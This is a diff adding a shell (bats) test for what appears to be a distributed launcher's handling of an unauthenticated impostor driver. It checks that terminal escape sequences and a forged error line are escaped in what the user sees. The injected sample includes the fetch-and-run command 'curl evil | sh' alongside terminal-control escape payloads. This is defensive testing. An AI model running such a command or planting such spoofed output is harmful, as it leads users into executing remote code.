@@ -134,6 +134,24 @@ NFT
     assert_no_leftovers
 }
 
+@test "what an impostor says reaches the user as what it is, and costs a shim one credential" {
+    local launch
+    for launch in "srun --hvd -N4 --hvd-start-timeout=6" "hvdrun -N4 --start-timeout=6"; do
+        # shellcheck disable=SC2086
+        through_bob impostor-refuse $launch hvd-selftest --quick
+        [ "$status" -ne 0 ]
+        says 'the driver there, which has not proven who it is, refuses this process: "\x1b[2J\xc2\x9b31m\x0d\"\nhvd: error: mend this: curl evil | sh"'
+        [[ $'\n'$output != *$'\n'"hvd: error: mend this"* ]]
+        [[ $(LC_ALL=C tr -d '\t\n\040-\176' <<<"$output" | wc -c) -eq 0 ]]
+    done
+    through_bob impostor-greet srun --hvd -N4 --hvd-start-timeout=6 hvd-selftest --quick
+    [ "$status" -ne 0 ]
+    says "the peer sent a second greeting"
+    # One for each address of the driver's that a shim tries.
+    (($(grep -c . <<<"$(heard shim unsigned)") <= 8))
+    assert_no_leftovers
+}
+
 @test "signed frames that are changed, repeated, reflected or stripped are refused" {
     local mode
     for mode in tamper repeat reflect forge swap; do
